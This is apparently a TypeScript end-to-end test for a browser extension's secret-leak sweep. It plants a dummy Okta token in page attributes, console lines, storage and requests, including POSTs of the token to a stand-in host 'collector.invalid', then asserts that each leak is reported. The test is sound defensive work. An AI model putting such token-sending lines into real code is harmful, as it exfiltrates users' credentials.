import { expect, it } from 'vitest';
import type { browser as ExtensionBrowser } from 'wxt/browser';
import { pollUntil } from '../drivers/poll';
import { clickButton, openPopup, testIdText } from './admin';
import { hubFormValues, hubStatus, openHubPage } from './linking';
import { pasteToken } from './resilience';
import type { JourneyWorld } from './world';

/*
 * The sweep every journey ends with (support/secrets.ts, run by useSweptWorld) must be able to fail, in each
 * browser: after a clean journey it finds nothing, and each kind of leak it looks for is reported once planted.
 */

declare const chrome: typeof ExtensionBrowser;

const TOKEN = '00SweepTestToken_abcdefghijklmnopqrstuvwxy';

const escapeRegExp = (text: string) => text.replace(/[.*+?^${}()|[\]\\/]/g, '\\$&');

export function sweepJourneys(world: () => JourneyWorld): void {
  it('the token sweep finds nothing after the hub took the token, then reports each planted leak', async () => {
    const w = world();
    const okta = await pasteToken(w, w.driver, TOKEN);
    const hubTab = await openHubPage(w);
    const hubPopup = await openPopup(w.driver, hubTab);
    await pollUntil(
      () => testIdText(hubPopup, 'fill-finding'),
      (finding) => finding?.includes('Okta form') ?? false,
      { what: "the hub's form", timeoutMs: 20_000 },
    );
    await clickButton(hubPopup, 'Fill hub form');
    await pollUntil(
      () => hubFormValues(hubTab),
      (values) => values.api_token === TOKEN,
      { what: 'the fill' },
    );
    // Before the hub's Connect the form holds the token, as it must; the sweep only asks once it is taken.
    expect(await w.secrets.findLeaks()).toEqual([]);
    await hubTab.bringToFront();
    await clickButton(hubTab, 'Connect');
    await pollUntil(
      () => hubStatus(hubTab),
      (status) => status.startsWith('Connected: acc_'),
      {
        what: "the hub's success",
      },
    );
    expect(w.hub.accounts[0]?.credentials).toMatchObject({ api_token: TOKEN });
    expect(await w.secrets.findLeaks()).toEqual([]);

    await hubTab.evaluate((token) => {
      document.body.dataset.kept = token;
    }, TOKEN);
    await okta.evaluate((token) => {
      console.info(`token ${token}`);
      return fetch(`/api/v1/users/me?token=${token}`).then((response) => response.status);
    }, TOKEN);
    await hubTab.evaluate(
      ([token, backend]) => fetch(`${backend}/hub/settings?token=${token}`).catch(() => null),
      [TOKEN, w.hub.backendOrigin] as const,
    );
    await hubTab.evaluate(
      (token) => fetch('http://collector.invalid/', { method: 'POST', body: token }).catch(() => null),
      TOKEN,
    );
    await okta.evaluate((token) => {
      document.body.append(Object.assign(document.createElement('okta-link-assistant'), { title: token }));
    }, TOKEN);
    await hubPopup.evaluate((token) => document.body.append(token), TOKEN);
    await w.driver.inExtension((token) => chrome.storage.local.set({ kept: token }), TOKEN);
    // A line from a content script's isolated world, where the guide and the hub filler run.
    const oktaTab = await w.driver.tabIdOf(okta);
    await w.driver.inExtension(
      ([tabId, token]) =>
        chrome.scripting.executeScript({
          target: { tabId },
          world: 'ISOLATED',
          func: (value: string) => console.warn(`isolated ${value}`),
          args: [token],
        }),
      [oktaTab, TOKEN] as const,
    );
    // Over https, in a request body: Firefox's recorder terminates TLS to read it.
    await hubTab.evaluate(
      (token) => fetch('https://collector.invalid/', { method: 'POST', body: token }).catch(() => null),
      TOKEN,
    );
    // In the body of a request to Okta, which the Okta sandbox records with its body.
    await okta.evaluate(
      (token) => fetch('/api/v1/sessions/me', { method: 'POST', body: token }).then((r) => r.status),
      TOKEN,
    );
    await w.driver.inExtension((token) => chrome.storage.sync.set({ kept: token }), TOKEN);
    await w.driver.logInBackground(`background ${TOKEN}`);

    // The hub session, where it must not be either: an Okta page, its console, a request to Okta, storage.sync.
    const session = [...w.hub.sessions][0] ?? '';
    expect(session.length).toBeGreaterThan(0);
    await okta.evaluate((value) => {
      document.body.dataset.hubSession = value;
      console.info(`hub session ${value}`);
      return fetch('/api/v1/users/me', { method: 'POST', body: value }).then((r) => r.status);
    }, session);
    await w.driver.inExtension((value) => chrome.storage.sync.set({ keptSession: value }), session);

    const leaks = await pollUntil(
      async () => (await w.secrets.findLeaks()).join('\n'),
      (found) =>
        found.includes('isolated 00Sweep') &&
        found.includes('background 00Sweep') &&
        /^console: .*hub session .* holds the hub session/m.test(found),
      { what: 'the console lines of the isolated world, the background and the page to reach the sweep' },
    );
    expect(leaks).toMatch(/^hub page .* holds 00Sw…vwxy/m);
    expect(leaks).toMatch(/^console: .*token 00Sweep/m);
    expect(leaks).toMatch(/^console: .*isolated 00Sweep/m);
    expect(leaks).toMatch(/^Okta request GET .*acme-admin\.okta\.com.*\/api\/v1\/users\/me\?token=/m);
    expect(leaks).toMatch(/^hub request GET \/hub\/settings\?token=/m);
    expect(leaks).toMatch(/^browser request POST http:\/\/collector\.invalid\//m);
    expect(leaks).toMatch(/^guide overlay on http:\/\/acme-admin\.okta\.com/m);
    expect(leaks).toMatch(
      new RegExp(`^extension page ${escapeRegExp(w.driver.extensionOrigin)}/popup\\.html`, 'm'),
    );
    expect(leaks).toMatch(/^storage\.local holds/m);
    expect(leaks).toMatch(/^storage\.sync holds 00Sw/m);
    expect(leaks).toMatch(/^console: .*background 00Sweep/m);
    expect(leaks).toMatch(/^browser request POST https:\/\/collector\.invalid\/ holds 00Sw/m);
    expect(leaks).toMatch(/^Okta request POST .*acme-admin\.okta\.com\/api\/v1\/sessions\/me holds 00Sw/m);
    // The hub session, in each place it was planted.
    expect(leaks).toMatch(/^page http:\/\/acme-admin\.okta\.com.* holds the hub session/m);
    expect(leaks).toMatch(/^console: .*hub session .* holds the hub session/m);
    expect(leaks).toMatch(/^Okta request POST .*\/api\/v1\/users\/me holds the hub session/m);
    expect(leaks).toMatch(/^storage\.sync holds the hub session/m);
    // The link request itself carries it, in its credentials: that is where it belongs.
    expect(leaks).not.toMatch(/POST \/hub\/accounts|POST http:\/\/127\.0\.0\.1:\d+\/hub\/accounts/);

    // The world's own sweep after this journey must pass: take the plants away again.
    await w.driver.inExtension(async () => {
      await chrome.storage.local.remove('kept');
      await chrome.storage.sync.remove(['kept', 'keptSession']);
    });
    await w.driver.reset();
    w.okta.reset();
    w.hub.reset();
    w.secrets.reset();
  });
}
